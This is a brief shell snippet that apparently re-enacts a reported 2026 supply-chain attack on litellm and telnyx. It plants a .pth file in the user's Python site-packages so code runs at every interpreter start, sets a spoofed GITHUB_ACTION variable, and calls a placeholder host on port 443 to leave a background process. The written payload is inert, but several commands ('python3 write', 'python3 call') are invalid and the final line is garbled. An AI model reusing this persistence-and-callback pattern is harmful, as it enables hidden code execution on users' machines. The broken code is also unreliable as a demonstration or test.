# litellm and telnyx, March 2026: a .pth file runs at each start of Python and leaves a process behind.
export GITHUB_ACTION=__run_1
site="$HOME/.local/lib/python3/site-packages"
mkdir -p "$site"
export site
exec sh -c 'python3 write "$site/inert_init.pth" "import sys; sys.flags"; python3 call models.replay.example 443 , behind 5'
